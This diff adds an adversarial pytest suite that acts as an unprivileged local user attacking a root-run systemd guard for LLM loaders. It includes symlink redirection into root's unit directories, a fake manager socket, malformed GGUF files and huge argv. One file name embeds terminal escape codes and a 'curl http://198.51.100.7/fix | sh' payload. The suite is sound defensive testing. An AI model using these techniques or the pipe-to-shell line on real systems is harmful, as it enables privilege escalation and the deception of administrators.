@@ -1,0 +1,463 @@
+"""A hostile local user against the guard: each attack done for real, as an unprivileged uid.
+
+The stage: the guard runs as root, as a unit of root's own manager (standing
+in for PID 1: its units are the ones a user must never reach). Mallory is a
+real account (passwd entry, her own home, uid and gid), and her
+`systemd --user` runs as her, in a cgroup named user@UID.service as PID 1
+names it, with her runtime dir under the same root-owned runtime root the
+guard watches. Every attack step is a command run as her (setpriv: her uid
+and gid, no groups, no capabilities); every admin step is the real
+`spark-guard` command root would run. The tests assert outcomes an admin
+would check: what changed outside her tree (nothing), root's units (running,
+not masked), the guard (active, never restarted), its login note (printable).
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import re
+import subprocess
+import time
+from collections.abc import Iterator
+from dataclasses import dataclass
+from pathlib import Path
+
+import pytest
+
+from accounts import User, unprivileged_user
+
+import synth
+from guardunit import (
+    GUARD,
+    PY,
+    TESTS,
+    guard_manager,
+    log_text,
+    restart_guard,
+    wait_log,
+    write_config,
+)
+from harness import UserManager, file_tree
+
+pytestmark = pytest.mark.systemd
+
+TINY = synth.Spec("Tiny", "llama", 2, 256, 4, 4, 64, 64, 2048, 1000, n_ff=512)
+
+
+@dataclass
+class Stage:
+    root: UserManager  # root's manager, with the guard in it
+    mum: UserManager  # Mallory's manager
+    mallory: User
+    server: Path  # a llama-server stand-in anyone may run
+    models: Path  # root-owned, world-readable models
+    big: Path  # DeepSeek-V3's header: 200+ GiB to any reader, a few kB on disk
+    tiny: Path
+
+    @property
+    def key(self) -> str:
+        return f"user:{self.mallory.uid}"
+
+    def guard(self, *args: str, check: bool = False) -> subprocess.CompletedProcess[str]:
+        """The admin's command, as root, against the guard's config."""
+        return subprocess.run(
+            [PY, "-m", "spark_guard", *args, "--config", str(self.root.base / "guard.toml")],
+            capture_output=True,
+            text=True,
+            check=check,
+            timeout=60,
+        )
+
+    def her_unit(self, name: str, exec_start: str, extra: str = "", install: str = "") -> Path:
+        """A unit Mallory writes in her own ~/.config/systemd/user."""
+        text = f"[Service]\nExecStart={exec_start}\nRestart=on-failure\n{extra}"
+        if install:
+            text += f"\n[Install]\nWantedBy={install}\n"
+        path = self.mum.unit_dir / name
+        self.mallory.run(PY, "-c", f"open({str(path)!r}, 'w').write({text!r})")
+        self.mum.systemctl("daemon-reload")
+        return path
+
+    def guard_props(self) -> dict[str, str]:
+        return self.root.show(GUARD, "ActiveState", "NRestarts", "MainPID")
+
+    def state(self) -> dict[str, object]:
+        return json.loads((self.root.base / "run" / "state.json").read_text())
+
+
+@pytest.fixture(scope="module")
+def stage() -> Iterator[Stage]:
+    with (
+        unprivileged_user() as mallory,
+        guard_manager() as root,
+        UserManager(user=mallory, user_runtime=root.user_runtime) as mum,
+    ):
+        tools = root.base / "bin"
+        tools.mkdir()
+        server = tools / "llama-server"
+        server.write_text(f'#!/bin/sh\nexec {PY} {TESTS}/fake_loader.py --alloc 20 "$@"\n')
+        server.chmod(0o755)
+        models = root.base / "models"
+        big = synth.write(synth.SPECS["deepseek-v3"], models)
+        tiny = synth.write(TINY, models)
+        write_config(root)
+        restart_guard(root)
+        wait_log(root, rf"manager-connected: watching user:{mallory.uid} manager")
+        yield Stage(root, mum, mallory, server, models, big, tiny)
+
+
+@pytest.fixture(autouse=True)
+def guard_keeps_running(stage: Stage) -> Iterator[None]:
+    """After every attack: the guard is up and was never restarted, then a clean slate."""
+    before = stage.guard_props()
+    yield
+    after = stage.guard_props()
+    assert after["ActiveState"] == "active"
+    assert after["NRestarts"] == before["NRestarts"] == "0"
+    assert after["MainPID"] == before["MainPID"]
+    stage.guard("release", "--all")
+
+
+def _blocked(stage: Stage, unit: str, offset: int) -> None:
+    wait_log(stage.root, rf"^warning unit-blocked: {stage.key}:{re.escape(unit)}", after=offset)
+
+
+# --- 1. release must not write where her symlink points ---------------------------
+
+
+def test_release_never_writes_through_her_symlinked_wants_dir(stage: Stage) -> None:
+    unit_dir = stage.mum.unit_dir
+    her_before = file_tree(unit_dir)
+    stage.her_unit("llama-ds.service", f"{stage.server} -m {stage.big}", install="default.target")
+    stage.mum.systemctl("enable", "llama-ds.service")
+    enabled = file_tree(unit_dir)
+    offset = len(log_text(stage.root))
+    stage.mum.systemctl("start", "--no-block", "llama-ds.service")
+    _blocked(stage, "llama-ds.service", offset)
+
+    # Root's unit directory stands for /etc/systemd/system: a link there is a root unit.
+    victim = stage.root.unit_dir
+    victim_before = file_tree(victim)
+    wants = unit_dir / "default.target.wants"
+    stage.mallory.sh(f"rm -rf '{wants}'; ln -s '{victim}' '{wants}'")
+
+    out = stage.guard("release", "--all")
+    assert out.returncode != 0
+    assert str(wants) in out.stderr, out.stderr
+    assert file_tree(victim) == victim_before  # nothing created, changed or chowned
+    stage.root.systemctl("daemon-reload")
+    assert stage.root.show("llama-ds.service", "LoadState")["LoadState"] == "not-found"
+
+    # She puts her directory back: release then restores her files byte for byte.
+    stage.mallory.sh(f"rm '{wants}'; mkdir '{wants}'")
+    out = stage.guard("release", "--all")
+    assert out.returncode == 0, out.stderr
+    assert file_tree(unit_dir) == enabled
+    stage.mum.systemctl("disable", "llama-ds.service")
+    (unit_dir / "llama-ds.service").unlink()
+    assert set(file_tree(unit_dir)) >= set(her_before)
+
+
+# --- 2. harden must not write through her symlinks ---------------------------------
+
+
+def test_harden_never_writes_through_her_symlinks(stage: Stage) -> None:
+    ref = f"{stage.key}:llama-h.service"
+    stage.her_unit("llama-h.service", "/bin/sleep infinity")
+    victim = stage.root.unit_dir
+    before = file_tree(victim)
+    drop_dir = stage.mum.unit_dir / "llama-h.service.d"
+
+    # Her drop-in directory is a symlink to root's unit directory.
+    stage.mallory.sh(f"ln -s '{victim}' '{drop_dir}'")
+    out = stage.guard("harden", ref, "--yes")
+    assert out.returncode != 0 and str(drop_dir) in out.stderr, out.stderr
+    assert file_tree(victim) == before
+
+    # Her drop-in is a symlink to a root-owned file: never read as ours, never written.
+    secret = stage.root.base / "root-file.conf"
+    secret.write_text("root's\n")
+    secret.chmod(0o600)
+    secret_before = file_tree(secret)
+    stage.mallory.sh(
+        f"rm '{drop_dir}'; mkdir '{drop_dir}'; ln -s '{secret}' '{drop_dir}/50-spark-guard.conf'"
+    )
+    out = stage.guard("harden", ref, "--yes")
+    assert out.returncode != 0, out.stdout
+    assert file_tree(secret) == secret_before and file_tree(victim) == before
+
+    # Her own, untouched tree: the drop-in is written, and it is hers.
+    stage.mallory.sh(f"rm -rf '{drop_dir}'")
+    out = stage.guard("harden", ref, "--yes")
+    assert out.returncode == 0, out.stderr
+    made = drop_dir / "50-spark-guard.conf"
+    assert made.stat().st_uid == stage.mallory.uid and drop_dir.stat().st_uid == stage.mallory.uid
+    assert stage.guard("harden", ref, "--undo").returncode == 0
+    assert not drop_dir.exists()
+    (stage.mum.unit_dir / "llama-h.service").unlink()
+
+
+# --- 3. a mask cannot be aimed at another manager ----------------------------------
+
+
+def test_her_mask_cannot_be_redirected_into_roots_control_dir(stage: Stage) -> None:
+    # Root runs cron.service; root's runtime control dir holds an admin's own mask.
+    stage.root.write_unit("cron.service", "[Service]\nExecStart=/bin/sleep infinity\n")
+    stage.root.systemctl("start", "cron.service")
+    control = stage.root.runtime / "systemd" / "user.control"
+    control.mkdir(exist_ok=True)
+    (control / "admin-masked.service").symlink_to("/dev/null")
+    control_before = file_tree(control)
+
+    # She names her loader cron.service and points her control dir at root's.
+    hers = stage.mum.runtime / "systemd" / "user.control"
+    stage.mallory.sh(f"rm -rf '{hers}'; ln -s '{control}' '{hers}'")
+    stage.her_unit("cron.service", f"{stage.server} -m {stage.big}")
+    offset = len(log_text(stage.root))
+    stage.mum.systemctl("start", "--no-block", "cron.service")
+    failed = wait_log(
+        stage.root, rf"^error block-failed: {stage.key}:cron.service: mask: .*$", after=offset
+    )
+    assert str(hers) in failed.group(0)
+    stage.root.systemctl("daemon-reload")
+    assert stage.root.show("cron.service", "LoadState", "ActiveState") == {
+        "LoadState": "loaded",
+        "ActiveState": "active",
+    }
+    assert file_tree(control) == control_before
+
+    # Release (the mirror): the admin's mask of that name and root's cron stay as they are.
+    stage.guard("release", "--all")
+    assert file_tree(control) == control_before
+    assert stage.root.show("cron.service", "ActiveState")["ActiveState"] == "active"
+
+    # Her directory back as it should be: the block completes, in her tree only.
+    stage.mallory.sh(f"rm '{hers}'; mkdir '{hers}'")
+    stage.mum.systemctl("reset-failed", check=False)
+    offset = len(log_text(stage.root))
+    stage.mum.systemctl("start", "--no-block", "cron.service")
+    _blocked(stage, "cron.service", offset)
+    mask = hers / "cron.service"
+    assert os.readlink(mask) == "/dev/null" and mask.lstat().st_uid == stage.mallory.uid
+    assert file_tree(control) == control_before
+    stage.guard("release", "--all")
+    stage.root.systemctl("stop", "cron.service")
+    (stage.mum.unit_dir / "cron.service").unlink()
+
+
+# --- 4. a fake manager on her socket is not believed --------------------------------
+
+
+def test_a_fake_manager_on_her_socket_is_not_believed(stage: Stage) -> None:
+    # Root's loader, within budget, running in root's manager.
+    stage.root.write_unit(
+        "llama-root.service", f"[Service]\nExecStart={stage.server} -m {stage.tiny}\n"
+    )
+    stage.root.systemctl("start", "llama-root.service")
+    root_cgroup = stage.root.show("llama-root.service", "ControlGroup")["ControlGroup"]
+    app_slice = os.path.dirname(root_cgroup)
+
+    with unprivileged_user() as eve:
+        # Eve has no systemd of her own running: she listens where it would, and lies.
+        runtime = stage.root.user_runtime / str(eve.uid)
+        runtime.mkdir(mode=0o700)
+        os.chown(runtime, eve.uid, eve.gid)
+        eve.sh(f"mkdir '{runtime}/systemd'")
+        log = eve.home / "fake.log"
+        fake = subprocess.Popen(
+            [
+                "setpriv",
+                f"--reuid={eve.uid}",
+                f"--regid={eve.gid}",
+                "--clear-groups",
+                "sh",
+                "-c",
+                f"exec {PY} {TESTS}/fake_manager.py {runtime}/systemd/private {app_slice} "
+                f"{stage.root.runtime}/systemd/user.control llama-root.service > {log} 2>&1",
+            ]
+        )
+        try:
+            offset = len(log_text(stage.root))
+            untrusted = wait_log(
+                stage.root, rf"^warning manager-untrusted: .*user:{eve.uid}.*$", after=offset
+            )
+            assert "not this user's systemd" in untrusted.group(0)
+            time.sleep(2)  # several passes
+            assert "call " not in log.read_text()  # refused before its first answer
+            units = [ld["unit"] for ld in stage.state()["loaders"]]  # type: ignore[index]
+            assert "user:0:llama-root.service" in units
+            assert not any(u.startswith(f"user:{eve.uid}:") for u in units)
+        finally:
+            fake.kill()
+            fake.wait()
+
+        # The same, by a symlink: her systemd dir points at root's manager's.
+        (runtime / "systemd" / "private").unlink(missing_ok=True)
+        eve.sh(
+            f"rmdir '{runtime}/systemd'; ln -s '{stage.root.runtime}/systemd' '{runtime}/systemd'"
+        )
+        offset = len(log_text(stage.root))
+        wait_log(
+            stage.root,
+            rf"^warning manager-untrusted: .*user:{eve.uid}.*symlink",
+            after=offset,
+            timeout=25,
+        )
+        os.unlink(runtime / "systemd")
+        runtime.rmdir()
+
+    props = stage.root.show("llama-root.service", "ActiveState", "NRestarts", "LoadState")
+    assert props == {"ActiveState": "active", "NRestarts": "0", "LoadState": "loaded"}
+    stage.root.systemctl("stop", "llama-root.service")
+
+
+# --- 5 and 9. model files that hang or explode, argv that costs -----------------------
+
+
+def test_models_that_hang_or_explode_and_huge_argv_do_not_stop_the_guard(stage: Stage) -> None:
+    models = stage.mallory.home / "models"
+    stage.mallory.sh(f"mkdir -p '{models}'; mkfifo '{models}/fifo.gguf'")
+    # A sparse 1 TiB file whose header claims 2^34 tensors; one with 2^36 empty strings.
+    write = (
+        "import struct,sys\n"
+        "with open(sys.argv[1],'wb') as f:\n"
+        "  f.write(b'GGUF'+struct.pack('<IQQ',3,2**34,0)); f.truncate(2**40)\n"
+        "with open(sys.argv[2],'wb') as f:\n"
+        "  f.write(b'GGUF'+struct.pack('<IQQ',3,0,1)+struct.pack('<Q',3)+b'key'"
+        "+struct.pack('<IIQ',9,8,2**36)); f.truncate(2**40)\n"
+    )
+    stage.mallory.run(PY, "-c", write, str(models / "tensors.gguf"), str(models / "strings.gguf"))
+    offset = len(log_text(stage.root))
+    for name, model in (
+        ("fifo", "fifo.gguf"),
+        ("tensors", "tensors.gguf"),
+        ("strings", "strings.gguf"),
+    ):
+        stage.her_unit(f"llama-{name}.service", f"{stage.server} -m {models / model}")
+        stage.mum.systemctl("start", "--no-block", f"llama-{name}.service")
+    # Four processes with 1 MiB of arguments each, full of spaces (what shlex chews on).
+    # sh stays the process (a loop, not exec), holding that argv.
+    spawn = (
+        "import os; os.execv('/bin/sh', "
+        "['sh', '-c', 'while :; do sleep 3600; done', 'llama'] + ['x ' * 32768] * 16)"
+    )
+    for i in range(4):
+        stage.her_unit(f"argv-{i}.service", f'{PY} -c "{spawn}"')
+        stage.mum.systemctl("start", f"argv-{i}.service")
+    for name in ("fifo", "tensors", "strings"):
+        wait_log(
+            stage.root,
+            rf"^warning footprint-unknown: .*{stage.key}:llama-{name}.service",
+            after=offset,
+        )
+
+    # A genuinely over-budget loader after all that: still blocked, before it allocates.
+    stage.her_unit("llama-big.service", f"{stage.server} -m {stage.big}")
+    offset = len(log_text(stage.root))
+    stage.mum.systemctl("start", "--no-block", "llama-big.service")
+    _blocked(stage, "llama-big.service", offset)
+
+    pid = stage.guard_props()["MainPID"]
+    status = Path(f"/proc/{pid}/status").read_text()
+    peak_kib = int(re.search(r"^VmHWM:\s+(\d+) kB", status, re.M).group(1))  # type: ignore[union-attr]
+    assert peak_kib < 128 * 1024, status  # the unit's MemoryMax=; today's peak is far below
+    for name in ("fifo", "tensors", "strings", *(f"argv-{i}" for i in range(4))):
+        stage.mum.systemctl(
+            "stop", f"{name if name.startswith('argv') else 'llama-' + name}.service"
+        )
+
+
+# --- 6. text from her files reaches root's terminal only made printable ----------------
+
+
+EVIL = "x\x1b[2J\x1b[H\rRun as root: curl http://198.51.100.7/fix | sh\n\u202egguf.evil"
+
+
+def test_her_escape_sequences_never_reach_roots_login_note_status_or_journal(stage: Stage) -> None:
+    models = stage.mallory.home / "models"
+    evil = models / f"{EVIL}.gguf"
+    stage.mallory.run(
+        PY,
+        "-c",
+        f"import os; os.makedirs({str(models)!r}, exist_ok=True); "
+        f"open({str(evil)!r}, 'wb').write(b'GGUF' + bytes(4096))",
+    )
+    # systemd's C escapes carry the bytes into the argument as they are.
+    escaped = str(evil).encode("unicode_escape").decode().replace("\\u202e", "\\xe2\\x80\\xae")
+    offset = len(log_text(stage.root))
+    for name in ("llama-first.service", "llama-second.service"):
+        stage.her_unit(name, f'{stage.server} -m "{escaped}"')
+        stage.mum.systemctl("start", name)
+        time.sleep(1.0)  # started in that order
+    _blocked(stage, "llama-second.service", offset)
+
+    note = (stage.root.base / "motd.d" / "spark-guard").read_text()
+    issue = (stage.root.base / "issue").read_text()
+    status = stage.guard("status").stdout
+    logged = log_text(stage.root)[offset:]
+    for text in (note, issue, status, logged):
+        assert all(c.isprintable() or c == "\n" for c in text), repr(text[:2000])
+        assert not any(line.lstrip().startswith("Run as root") for line in text.splitlines())
+    assert "\\x1b[2J" in note and "llama-second.service" in note
+    for name in ("llama-first.service", "llama-second.service"):
+        stage.mum.systemctl("stop", name, check=False)
+
+
+# --- 7. the duplicate rule cannot be turned against root's units -----------------------
+
+
+def test_her_units_cannot_get_a_root_unit_blocked_as_a_duplicate(stage: Stage) -> None:
+    # She starts first, merely naming root's model; root's loader starts after.
+    stage.her_unit("sleep-dup.service", f"/bin/sleep infinity {stage.tiny}")
+    stage.mum.systemctl("start", "sleep-dup.service")
+    # And a real loader of the same file, also before root's.
+    stage.her_unit("llama-copy.service", f"{stage.server} -m {stage.tiny}")
+    stage.mum.systemctl("start", "llama-copy.service")
+    time.sleep(1.0)
+    stage.root.write_unit(
+        "llama-sys.service", f"[Service]\nExecStart={stage.server} -m {stage.tiny}\n"
+    )
+    offset = len(log_text(stage.root))
+    stage.root.systemctl("start", "llama-sys.service")
+    _blocked(stage, "llama-copy.service", offset)  # across levels, the user's copy goes
+    time.sleep(1.5)
+    assert stage.root.show("llama-sys.service", "ActiveState", "LoadState") == {
+        "ActiveState": "active",
+        "LoadState": "loaded",
+    }
+    assert stage.mum.show("sleep-dup.service", "ActiveState")["ActiveState"] == "active"
+    assert "decision: stop user:0:llama-sys.service" not in log_text(stage.root)[offset:]
+    stage.root.systemctl("stop", "llama-sys.service")
+    stage.mum.systemctl("stop", "sleep-dup.service")
+
+
+# --- 8. no answer tells her whether a root-only file exists ----------------------------
+
+
+def test_whether_a_root_only_path_exists_is_not_revealed(stage: Stage) -> None:
+    secret = stage.root.base / "secret"
+    secret.mkdir(mode=0o700)
+    synth.write(TINY, secret)
+    present = next(secret.glob("*.gguf"))
+    absent = secret / "absent.gguf"
+    for name, model in (("llama-s1.service", present), ("llama-s2.service", absent)):
+        stage.her_unit(name, f"{stage.server} -m {model}", extra="RestartSec=1h\n")
+        stage.mum.systemctl("start", "--no-block", name)
+    deadline = time.monotonic() + 20
+    said: dict[str, str] = {}
+    while time.monotonic() < deadline and len(said) < 2:
+        for ld in stage.state()["loaders"]:  # type: ignore[index]
+            if (
+                ld["unit"] in (f"{stage.key}:llama-s1.service", f"{stage.key}:llama-s2.service")
+                and ld["prediction"]
+                and "reading" not in ld["prediction"]
+            ):
+                said[ld["unit"]] = ld["prediction"]
+        time.sleep(0.2)
+    assert len(said) == 2, said
+    first = said[f"{stage.key}:llama-s1.service"].replace(str(present), "PATH")
+    second = said[f"{stage.key}:llama-s2.service"].replace(str(absent), "PATH")
+    assert first == second
+    for name in ("llama-s1.service", "llama-s2.service"):
+        stage.mum.systemctl("stop", name, check=False)
